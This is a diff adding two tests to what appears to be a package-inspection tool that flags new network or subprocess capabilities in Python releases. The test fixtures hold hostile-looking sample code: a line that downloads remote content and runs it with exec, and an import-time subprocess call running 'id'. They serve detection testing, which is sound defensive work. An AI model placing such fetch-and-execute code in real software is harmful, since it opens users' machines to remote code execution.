@@ -137,6 +137,33 @@ def test_sdist_package_sources_count_and_tests_do_not(tmp_path: Path) -> None:
     assert found.path == "demo-1.1/src/demo/__init__.py"
 
 
+def test_what_runs_only_as_a_script_is_not_import_time(tmp_path: Path) -> None:
+    guarded = (
+        "import subprocess, urllib.request\n\ndef main():\n"
+        "    exec(urllib.request.urlopen('https://127.0.0.1:9').read())\n\n"
+        "if __name__ == '__main__':\n    main()\n"
+    )
+    inspection = _after_clean(tmp_path, {"demo/tool.py": guarded, "demo/__main__.py": POPEN})
+    assert inspection.evidence().action is Action.REPORT
+    reported = [f for f in inspection.findings if f.rule == "function-capability-new"]
+    assert {f.path for f in reported} == {"demo/tool.py", "demo/__main__.py"}
+    assert all("never on import" in f.message for f in reported if f.path == "demo/__main__.py")
+    otherwise = guarded + "else:\n    subprocess.Popen(['id'])\n"
+    inspection = _after_clean(tmp_path, {"demo/tool.py": otherwise})
+    assert _only(inspection, "import-capability-new").line == 10  # the else: runs on import
+
+
+def test_sdist_scripts_beside_the_packages_are_not_package_sources(tmp_path: Path) -> None:
+    clean = build_sdist("demo", "1.0", modules={"demo/__init__.py": CLEAN})
+    previous = _summary(tmp_path, clean)
+    modules = {"demo/__init__.py": CLEAN, "scripts/release.py": POPEN, "tasks/ci/run.py": POPEN}
+    inspection = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
+    assert inspection.evidence().action is Action.PASS
+    modules["demo/sub/__init__.py"] = POPEN  # inside the package: it counts
+    inspection = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
+    assert _only(inspection, "import-capability-new").path == "demo-1.1/demo/sub/__init__.py"
+
+
 # ------------------------------------------------------------- combinations
 
 
